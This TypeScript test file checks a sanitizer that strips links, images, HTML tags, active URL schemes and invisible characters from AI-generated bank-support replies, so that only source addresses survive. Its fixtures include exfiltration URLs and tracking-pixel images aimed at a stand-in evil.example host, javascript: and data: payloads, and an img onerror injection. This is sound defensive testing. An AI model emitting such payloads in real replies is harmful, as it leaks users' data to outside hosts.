/**
 * A displayed reply is plain text: it loads, runs and hides nothing, and contains no address that is not in its
 * sources.
 */
import { describe, expect, it } from '@jest/globals';
import { createReplyStream, linkRemoved, plainReply } from '../../intelligence/replytext.ts';

const grounds = ['See https://bank.example/help/cards?id=7 or mail help@bank.example.', 'https://bank.example/fees'];

const table: [name: string, written: string, shown: string][] = [
  ['plain text', 'The card costs 12 EUR. Use code < 5 or a > b.', 'The card costs 12 EUR. Use code < 5 or a > b.'],
  ['an address of the sources', 'See https://bank.example/fees.', 'See https://bank.example/fees.'],
  ['its beginning', 'See https://bank.example/help/', 'See https://bank.example/help/'],
  ['a link to the sources', '[Fees](https://bank.example/fees)!', 'Fees (https://bank.example/fees)!'],
  [
    'a link whose words are its address',
    '[https://bank.example/fees](https://bank.example/fees)',
    'https://bank.example/fees',
  ],
  ['a mail link', '[Write](mailto:help@bank.example)', 'Write (help@bank.example)'],
  ['an address from elsewhere', 'Go to https://evil.example/x?d=SECRET now', `Go to ${linkRemoved} now`],
  ['one that adds to a known one', 'https://bank.example/fees?leak=SECRET', linkRemoved],
  ['a link elsewhere', '[your account](https://evil.example)', 'your account'],
  ['a link that runs', '[click](javascript:alert(1))', 'click)'],
  ['a link that embeds', '[x](data:text/html;base64,PHNjcmlwdD4=)', 'x'],
  ['an image', '![pixel](https://evil.example/p.png?d=SECRET)', 'pixel'],
  ['an image of the sources', '![cards](https://bank.example/fees)', 'cards'],
  ['an image by reference', '![a][b]\n\n[b]: https://evil.example/?SECRET', `a\n\n[b]: ${linkRemoved}`],
  ['an image over two lines', '![a\nb](https://evil.example/?SECRET)', `[a\nb] (${linkRemoved})`],
  ['an image inside a link', '[![a](https://evil.example/1)](https://evil.example/2)', 'a'],
  ['a tag', 'Hi <img src=x onerror=alert(1)> <SCRIPT>x</SCRIPT>', 'Hi ‹img src=x onerror=alert(1)> ‹SCRIPT>x‹/SCRIPT>'],
  ['a comment', 'a<!-- b -->', 'a‹!-- b -->'],
  [
    'bare active schemes',
    'JavaScript:alert(1) vbscript:x data:text/html,x',
    [linkRemoved, linkRemoved, linkRemoved].join(' '),
  ],
  ['words that look like schemes', 'data: 5 GB; file: a.txt', 'data: 5 GB; file: a.txt'],
  ['other schemes', 'ftp://bank.example/fees', linkRemoved],
  ['invisible characters', 'a\u0000b\u202ec\u{e0041}d\ne', 'abcd\ne'],
  ['bare www', 'www.evil.example/SECRET', linkRemoved],
  ['an address in emphasis', '_https://evil.example/SECRET_', `_${linkRemoved}_`],
  ['an address behind a long word', `${'a'.repeat(40)}https://evil.example/SECRET`, `${'a'.repeat(24)}${linkRemoved}`],
  ['marks before a bracket', 'Well!![a\nb', 'Well[a\nb'],
  [
    'a link within letters of another script',
    'こちら[料金](https://bank.example/fees) です',
    'こちら料金 (https://bank.example/fees) です',
  ],
  ['an address with letters of another script', '詳細https://evil.example/カSECRETです', `詳細${linkRemoved}`],
  [
    'an image in the words of a link',
    '[![a](https://evil.example/1) b](https://bank.example/fees)',
    'a b (https://bank.example/fees)',
  ],
];

describe('plainReply', () => {
  it.each(table)(
    'plainReply leaves only plain text and addresses of the sources in a reply: %s',
    (_, written, shown) => {
      expect(plainReply(written, grounds)).toBe(shown);
    },
  );

  it('a reply shows at most 200 different addresses, and each of them any number of times', () => {
    const many = Array.from({ length: 300 }, (_, at) => `https://a.example/${at}/x`);
    const shown = plainReply([...many, ...many].join(' '), [many.join(' ')]).split(' ');
    expect(shown.filter((word) => word.startsWith('https:'))).toHaveLength(400);
    expect(plainReply('[x](https://a.example/1/x) '.repeat(300), many)).toBe('x (https://a.example/1/x) '.repeat(300));
  });

  it('plainReply leaves text that is already plain unchanged', () => {
    for (const [, , shown] of table) expect(plainReply(shown, grounds)).toBe(shown);
  });
});

describe('createReplyStream', () => {
  const written = (text: string, cut: () => number): string[] => {
    const stream = createReplyStream(grounds);
    const shown: string[] = [];
    for (let at = 0; at < text.length;) {
      const size = cut();
      shown.push(stream.push(text.slice(at, at + size)));
      at += size;
    }
    return [...shown, stream.end()];
  };

  it.each([1, 3, 7])('a reply streamed in pieces of %d characters shows the same text as a whole reply', (size) => {
    for (const [name, text, shown] of table) {
      const pieces = written(text, () => size);
      expect([name, pieces.join('')]).toEqual([name, shown]);
      expect([name, pieces.join('').includes('SECRET')]).toEqual([name, false]);
    }
  });

  it('a streamed reply shows the same text wherever it is split into pieces', () => {
    const random = seeded(20_261_121);
    const parts = [
      '[',
      ']',
      '(',
      ')',
      '!',
      '![',
      '](',
      '<',
      '\n',
      ' ',
      'a',
      'カード',
      'é',
      '\u{e0041}',
      '\u202e',
      '😀',
      '_',
      '"',
      'https://bank.example/fees',
      'https://evil.example/?SECRET',
      'www.',
      '://',
      'java',
      'script:',
      'data:',
      ',x',
      'x'.repeat(501),
      'y'.repeat(2_001),
      '/help/',
      '.',
      ': ',
    ];
    for (let round = 0; round < 500; round += 1) {
      const text = Array.from({ length: 2 + random(14) }, () => parts[random(parts.length)]!).join('');
      const whole = plainReply(text, grounds);
      expect([text, written(text, () => 1 + random(9)).join('')]).toEqual([text, whole]);
      expect([text, /!\[|\]\(|<[a-z/!?]/i.test(whole)]).toEqual([text, false]);
      expect([text, plainReply(whole, [...grounds, text])]).toEqual([text, whole]);
    }
  });

  it('the reply stream holds back the unfinished word, and sends the text before it', () => {
    const stream = createReplyStream([]);
    expect(stream.push('The card costs')).toBe('The card ');
    expect(stream.push(' 12 EUR')).toBe('costs 12 ');
    expect(createReplyStream([]).push('カードの年会費は無料')).toBe('カードの年会費は無料');
  });
});

// An algorithm that scans the whole rest of the text at each opening bracket takes minutes or hours for these texts, so
// Jest's timeout fails it.
describe('hostile texts', () => {
  const length = 200_000;
  const repeated = (part: string): string => part.repeat(Math.ceil(length / part.length));
  const slow = [
    '[',
    ']',
    '(',
    '!',
    '<',
    'a',
    '.',
    ' ',
    '\n',
    '[[',
    '](',
    '![',
    '!!',
    '[a](',
    '[a]( ',
    '![a](',
    '![a][',
    '[](x',

    '[a](b)',
    '![a](b)',
    '[![a](b)](c)',
    '<a ',
    '<!--',
    '://',
    'http://',
    'http:',
    'www.',
    'www.a ',
    'a://b ',
    'data:',
    'data:a/',
    'javascript:',
    'file:',
    'a.,;',
    '[link removed]',
    'é',
    'a é',
    'カ!',
    '\u202e',
    '\u{e0041}',
  ];

  it.each(slow)('a text that repeats %j is processed in linear time', (part) => {
    for (const text of [repeated(part), `[x](https://${repeated(part)}\n`]) {
      const shown = plainReply(text, grounds);
      expect(plainReply(shown, grounds)).toBe(shown);
    }
  });

  it.each(slow)('a text that repeats %j gives the same result when it is streamed in pieces', (part) => {
    const stream = createReplyStream(grounds);
    let shown = '';
    const text = repeated(part).slice(0, 20_000);
    for (let at = 0; at < text.length; at += 50) shown += stream.push(text.slice(at, at + 50));
    expect(shown + stream.end()).toBe(plainReply(text, grounds));
  });
});

/** Returns a deterministic generator of numbers smaller than `below`. */
function seeded(seed: number): (below: number) => number {
  let state = seed;
  return (below) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((state / 2 ** 32) * below);
  };
}
